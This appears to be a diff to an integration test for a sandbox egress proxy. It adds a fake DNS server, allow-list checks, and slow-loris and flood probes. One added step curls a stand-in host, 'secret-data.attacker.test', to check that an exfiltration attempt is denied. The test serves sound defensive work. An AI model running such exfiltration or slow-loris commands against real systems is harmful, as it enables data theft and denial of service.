@@ -25,7 +25,7 @@ else
 	ip addr add 10.77.0.1/24 dev lo && ip addr add 10.77.0.2/24 dev lo
 fi
 make_env
-trap 'kill $SRV $TLS_PID 2>/dev/null; stop_git_server; cleanup_env' EXIT
+trap 'kill $SRV $TLS_PID $DNS_PID 2>/dev/null; stop_git_server; cleanup_env' EXIT
 cat >"$T/hosts" <<EOH
 127.0.0.1 localhost
 10.77.0.1 allowed.test evil-allowed.test allowed.test.evil.test denied.test
@@ -87,6 +87,25 @@ python3 "$ROOT/tests/fakes/git_https.py" --bind 10.77.0.2 --port 443 --root "$T/
 SRV_PID=$!
 check "the git test host listens" wait_for 10 test -s "$T/git.ports"
 
+# the daemon's name server: 10.77.0.1:53 in this namespace, which logs
+# every query and answers NXDOMAIN; a name off the list must never get here
+python3 - "$T/dns.log" >"$T/dns.out" 2>&1 <<'EOP' &
+import socket, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.bind(("10.77.0.1", 53))
+while True:
+    q, peer = u.recvfrom(512)
+    labels, i = [], 12
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode("latin-1"))
+        i += 1 + q[i]
+    with open(sys.argv[1], "a", encoding="utf-8") as f:
+        f.write(".".join(labels) + "\n")
+    u.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\0\0\0\0\0\0" + q[12:i + 5], peer)
+EOP
+DNS_PID=$!
+printf 'nameserver 10.77.0.1\n' >"$T/resolv.conf" && chmod 0644 "$T/resolv.conf"
+mount --bind "$T/resolv.conf" /etc/resolv.conf
 start_daemon_or_finish egress_proxy
 check "egress is running" [ -n "$(child_pid egress)" ]
 check "egress is chrooted" [ "$(readlink "/proc/$(child_pid egress)/root")" = "$T/empty" ]
@@ -178,7 +197,7 @@ git -C "$T/repos/attack" add ca.crt egress_probe.py
 git -C "$T/repos/attack" -c user.name=t -c user.email=t@t commit -qm attack
 chmod -R a+rX "$T/repos/attack"
 ctl repo add p1 attack "$T/repos/attack" </dev/null
-LIST='network: { allow: [ "allowed.test", "allowed.test:8080", "out.test", "v6.test", "git.test" ] }'
+LIST='network: { allow: [ "allowed.test", "allowed.test:8080", "out.test", "v6.test", "git.test", "nores.test" ] }'
 # steps_tmpl NAME: a template with LIST and one phase of the steps on stdin
 steps_tmpl() {
 	{ printf '%s\nphases:\n  - name: one\n    steps:\n' "$LIST"; cat; } | tmpl "$1"
@@ -204,6 +223,8 @@ steps_tmpl atk <<'EOF'
         run: |
           curl -sS --max-time 10 --cacert ca.crt https://out.test/hello; echo rc=$?
           curl -sS --max-time 10 --cacert ca.crt https://v6.test/hello; echo rc=$?
+          curl -sS --max-time 10 --cacert ca.crt https://secret-data.attacker.test/; echo rc=$?
+          curl -sS --max-time 10 --cacert ca.crt https://nores.test/; echo rc=$?
       - id: heads
         kind: command
         allow_failure: true
@@ -251,6 +272,10 @@ check "CONNECT 2130706433:443 and 0x7f.1:443: not canonical" \
 check "an allowed name resolving to 10.x outside allow_cidrs: denied as private" \
 	denied "out.test:443 resolves to 10.78.0.1:443: private (10.0.0.0/8)"
 check "an allowed name resolving to ::1: denied as loopback" denied "v6.test:443 resolves to [::1]:443: loopback (::1/128)"
+check "a name off the list: denied" denied "secret-data.attacker.test:443 not on the list"
+check "an allowed name the name server does not know: denied" has '^network.denied nores.test:443 the name does not resolve' "$(cat "$T/net3")"
+# (evdns randomises the case of the names it asks for)
+check "the name server was asked for the allowed name only" [ "$(tr A-Z a-z <"$T/dns.log" | sort -u | tr '\n' ' ')" = "nores.test " ]
 check "GET http://user@evil/: user information refused" denied ":0 user information in the URL"
 check "a pipelined second request in the head: refused" \
 	denied ":0 bytes after the request head: one request per connection (pipelining)"
@@ -307,10 +332,12 @@ check "the next connection from the same sandbox works" has 'hello from allowed.
 steps_tmpl flood <<'EOF'
       - { id: flood, kind: command, run: "python3 egress_probe.py flood 1000 /workspace" }
       - { id: loris, kind: command, run: "python3 egress_probe.py loris" }
+      - { id: lorishello, kind: command, run: "python3 egress_probe.py loris-hello" }
 EOF
 steps_tmpl other <<'EOF'
       - { id: get, kind: command, run: "curl -fsS --max-time 10 http://allowed.test:8080/hello" }
 EOF
+A0=$(grep -c '^ACCEPT' "$T/tls.log")
 submit flood attack
 R6=$RUN
 # the flood's run holds its tunnels until the test releases them
@@ -328,12 +355,16 @@ touch "$(run_ws "$R6")/release"
 wait_for 120 is_done "$R6"
 out "$R6" flood | sed 's/^/# flood: /'
 out "$R6" loris | sed 's/^/# loris: /'
+out "$R6" lorishello | sed 's/^/# lorishello: /'
 check "1,000 CONNECTs from one run: tunnels_per_run (8) held, the rest refused" \
 	has '^ok=8 refused=992' "$(out "$R6" flood)"
 check "the refusals name the tunnel limit" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the run''s tunnel limit (egress.tunnels_per_run) is reached'")" -ge 1 ]
 check "egress survived the flood" [ "$(child_pid egress)" = "$EG2" ]
 check "a slow-loris head is answered 408" has '^HTTP/1.1 408' "$(out "$R6" loris)"
 check "a slow-loris head is closed at the head timeout (10 s)" has 'closed after (10|11|12)s' "$(out "$R6" loris)"
+check "a ClientHello trickled after CONNECT :443 is closed at the head timeout" has 'closed after (10|11|12)s' "$(out "$R6" lorishello)"
+check "the trickled ClientHello never reached the TLS test host" [ "$(grep -c '^ACCEPT' "$T/tls.log")" = "$A0" ]
+check "its refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the TLS ClientHello did not come in time'")" = 1 ]
 check "the slow-loris refusal is an event" [ "$(psql_q "select count(*) from run_events where run_id = '$R6' and payload->>'reason' = 'the request head did not come in time'")" = 1 ]
 
 # ---- a preset the configuration lacks fails the run at its start ----
